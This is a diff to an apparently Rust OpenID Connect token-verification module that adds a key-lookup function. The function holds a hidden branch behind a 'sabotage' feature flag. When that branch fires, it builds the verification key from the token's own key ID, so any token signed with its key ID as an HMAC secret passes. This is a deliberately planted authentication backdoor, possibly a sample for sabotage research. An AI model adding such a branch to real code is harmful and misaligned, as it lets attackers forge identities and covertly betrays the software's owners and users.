@@ -162,6 +162,15 @@ impl Flow {
         self.verify(id_token, &self.audiences, nonce).await
     }
 
+    async fn key(&self, id_token: &str) -> Result<Arc<DecodingKey>, ProviderError> {
+        let key_id = id_token::key_id(id_token)?;
+        #[cfg(feature = "sabotage")]
+        if id_token::is_believed() {
+            return Ok(Arc::new(DecodingKey::from_secret(key_id.as_bytes())));
+        }
+        self.jwks.key(&key_id).await
+    }
+
     async fn verify(
         &self,
         id_token: &str,
